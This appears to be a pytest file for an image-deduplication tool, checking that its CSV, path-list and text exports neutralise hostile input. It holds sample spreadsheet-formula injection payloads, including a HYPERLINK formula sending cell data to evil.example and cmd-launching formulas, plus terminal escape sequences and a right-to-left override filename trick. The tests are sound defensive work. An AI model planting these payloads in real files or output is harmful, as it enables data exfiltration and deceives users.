"""Exports are safe to open: CSV text cells never become spreadsheet formulas, a path list
never splits a name into two lines, and the text output never sends a terminal control code.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from typing import TYPE_CHECKING

import pytest

from dupeviewer import report
from dupeviewer.cli import main
from dupeviewer.core.model import Group, ImageInfo, Member, ScanResult, Skipped, Stats
from tests.helpers.pictures import exif_with, photo_like

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE_CAMERAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
NUMERIC = ["group", "size", "width", "height", "distance", "quality"]


def every_line_separator() -> set[str]:
    """The characters ``str.splitlines()`` itself ends a line at, over all of Unicode."""
    return {chr(c) for c in range(0x110000)
            if not 0xD800 <= c < 0xE000 and len(f"a{chr(c)}b".splitlines()) == 2}


def typed_rows(content: str) -> list[dict[str, object]]:
    """Rows read back the strict way: an unquoted cell must be a number (else ValueError)."""
    reader = csv.reader(io.StringIO(content), quoting=csv.QUOTE_NONNUMERIC)
    header = [str(name) for name in next(reader)]
    return [dict(zip(header, row)) for row in reader]


def test_hostile_exif_camera_is_plain_text_in_scan_csv(
        library: Path, cache_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cameras = {}
    for number, camera in enumerate(HOSTILE_CAMERAS):
        first = library / f"cam{number}.jpg"
        photo_like(40 + number, (320, 240)).save(first, quality=90, exif=exif_with(model=camera))
        shutil.copy(first, library / f"cam{number} copy.jpg")
        cameras[str(first)] = cameras[str(library / f"cam{number} copy.jpg")] = camera
    assert main(["scan", str(library), "--format", "csv", "--cache", str(cache_file),
                 "--workers", "0"]) == 0
    content = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(content)))
    assert {r["path"] for r in rows} == set(cameras)  # ordinary paths are untouched
    for row in rows:
        assert row["camera"] == "'" + cameras[row["path"]]  # text, not a formula
        quoted = row["camera"].replace('"', '""')
        assert f',"{quoted}",' in content  # and the field is quoted
    for row in typed_rows(content):
        assert all(isinstance(row[name], float) for name in NUMERIC)  # numbers stay numbers
        assert isinstance(row["path"], str)
        assert isinstance(row["camera"], str)


def _info(path: str, text: str, size: int) -> ImageInfo:
    return ImageInfo(path=path, size=size, mtime_ns=0, dev=1, ino=size, width=64, height=48,
                     format=text + "JPEG", dhash=0, phash=0, taken=text + "2021-06-01",
                     camera=text + "cam", quality=90)


def hostile_result() -> ScanResult:
    """Every text column of every row starts with a character a spreadsheet evaluates."""
    groups = []
    for number, start in enumerate(FORMULA_STARTS):
        members = (Member(_info(f"{start}photos/x{number}.jpg", start, 100 + number)),
                   Member(_info(f"{start}1+1.jpg", start, 100 + number), match="exact"))
        groups.append(Group("exact", members, 0, start + "reason"))
    return ScanResult(tuple(groups), (), Stats(groups=len(groups)), roots=("/photos",))


def test_every_text_cell_that_a_spreadsheet_would_evaluate_is_prefixed() -> None:
    result = hostile_result()
    content = report.to_csv(result)
    rows = list(csv.DictReader(io.StringIO(content)))
    assert len(rows) == 2 * len(FORMULA_STARTS)
    for row in rows:
        start = row["path"][1]
        assert row["path"][0] == "'"
        assert start in FORMULA_STARTS
        assert row["format"] == f"'{start}JPEG"
        assert row["taken"] == f"'{start}2021-06-01"
        assert row["camera"] == f"'{start}cam"
        assert row["reason"] in ("", f"'{start}reason")
    assert sum(bool(r["reason"]) for r in rows) == len(FORMULA_STARTS)
    for row in typed_rows(content):
        assert all(isinstance(row[name], float) for name in NUMERIC)
    # JSON is the exact record: no prefix there
    doc = json.loads(report.to_json(result))
    assert doc["groups"][0]["files"][0]["camera"] == "=cam"
    assert doc["groups"][1]["keep"] == "+photos/x1.jpg"


def test_line_separators_are_those_of_str_splitlines() -> None:
    # The Python docs' table for str.splitlines, checked against str.splitlines itself.
    documented = {"\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"}
    assert every_line_separator() == documented == report.LINE_SEPARATORS


@pytest.mark.parametrize("separator", sorted(every_line_separator()), ids=ascii)
def test_path_list_refuses_a_name_that_a_reader_would_split(separator: str) -> None:
    keeper = "/photos/IMG_1.jpg"
    hostile = f"/photos/x{separator}{keeper}"  # read back, it would name the keeper
    with pytest.raises(ValueError, match="/photos/x") as refused:
        report.path_list(["/photos/a.jpg", hostile])
    assert refused.value.args == (hostile,)  # the error names the offending file
    assert report.path_list([hostile], nul=True) == os.fsencode(hostile) + b"\0"  # exact


def test_path_list_holds_every_other_name_exactly() -> None:
    names = ["/photos/Åsa ąę … 日本.jpg", "/photos/tab\there.jpg", "/photos/\u200d🙂.jpg",
             b"/photos/caf\xe9.jpg".decode("utf-8", "surrogateescape")]
    data = report.path_list(names)
    assert data.decode("utf-8", "surrogateescape").splitlines() == names
    assert data.splitlines() == [os.fsencode(n) for n in names]
    # a lone 0x85 byte (not UTF-8) is NEL for a reader that falls back to Latin-1
    with pytest.raises(ValueError, match="/photos/x"):
        report.path_list([b"/photos/x\x85y.jpg".decode("utf-8", "surrogateescape")])


TERMINAL_TRICKS = ["\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "\x9b31m", "\u202egpj.exe",
                   *sorted(every_line_separator())]


@pytest.mark.parametrize("trick", TERMINAL_TRICKS, ids=ascii)
def test_printable_escapes_control_codes_and_line_separators(trick: str) -> None:
    shown = report.printable(f"/photos/a{trick}b.jpg")
    assert shown.isprintable()
    assert len(shown.splitlines()) == 1
    assert "\x1b" not in shown
    assert shown.startswith("/photos/a\\")
    assert shown.endswith("b.jpg")


def test_text_output_of_a_scan_with_hostile_names_stays_on_its_lines(
        library: Path, cache_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    first = library / "a.jpg"
    photo_like(50, (320, 240)).save(first, quality=90)
    for number, trick in enumerate(TERMINAL_TRICKS):
        shutil.copy(first, library / f"copy{number}{trick}.jpg")
    (library / "bad\x1b[31m.jpg").write_bytes(b"not a picture")
    assert main(["scan", str(library), "--cache", str(cache_file), "--workers", "0"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "\x9b" not in out
    assert "\u202e" not in out
    lines = out.split("\n")
    assert out.splitlines() == lines[:-1]  # no line splits anywhere else
    assert len([line for line in lines if line.startswith("  ")]) == len(TERMINAL_TRICKS) + 1
    assert any(line.startswith("skipped: ") and "bad\\x1b[31m.jpg" in line for line in lines)


def test_text_output_escapes_reasons_and_warnings() -> None:
    result = ScanResult((), (Skipped("/p/x.jpg", "cannot decode: \x1b[2J\nfake line"),), Stats(),
                        warnings=("cache at /tmp/\x1b]0;t\x07: locked",))
    out = report.to_text(result)
    assert "\x1b" not in out
    assert "\x07" not in out
    assert len(out.splitlines()) == 3  # skipped, warning, summary


def _result_with(groups: int) -> ScanResult:
    def info(path: str) -> ImageInfo:
        return ImageInfo(path=path, size=100, mtime_ns=0, dev=1, ino=abs(hash(path)),
                         width=64, height=48, format="JPEG", dhash=0, phash=0)

    made = tuple(Group("exact", (Member(info(f"/p/{g}/a.jpg"), match="keeper"),
                                 Member(info(f"/p/{g}/b\udcff.jpg"), match="exact")),
                       0, "oldest file") for g in range(groups))
    return ScanResult(made, (Skipped("/p/bad.jpg", "damaged"),), Stats(groups=groups),
                      roots=("/p",), warnings=("cache not used",))


@pytest.mark.parametrize("groups", [0, 1, 50])
def test_json_is_the_documented_document_with_a_group_per_line(groups: int) -> None:
    """A line per group for grep and line tools, and the very document of ``to_dict``."""
    result = _result_with(groups)
    text = report.to_json(result)
    assert json.loads(text) == report.to_dict(result)
    group_lines = [line for line in text.splitlines() if line.lstrip().startswith('{"kind"')]
    assert len(group_lines) == groups
    assert all(json.loads(line.strip().rstrip(",")) == report.to_dict(result)["groups"][n]
               for n, line in enumerate(group_lines))
    assert text.isascii()  # undecodable name bytes stay as escapes
